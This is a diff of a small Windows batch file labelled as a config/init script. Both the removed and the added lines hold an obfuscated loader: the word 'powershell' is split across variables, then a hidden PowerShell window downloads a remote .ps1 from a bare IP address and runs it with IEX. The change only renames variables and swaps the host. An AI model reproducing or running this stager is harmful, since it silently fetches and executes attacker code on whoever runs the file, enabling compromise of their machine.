@@ -1,7 +1,7 @@
-REM config 2207 v2
+REM init 3331 v2
 @echo off
 setlocal EnableDelayedExpansion
-set etp0=power
-set xpf1=shell
-set azm2= -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.17/inv.ps1')"
-!etp0!!xpf1!!azm2!
+set hcc0=powershe
+set yit1=ll -nop
+set tpa2= -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.44/a.ps1')"
+!hcc0!!yit1!!tpa2!
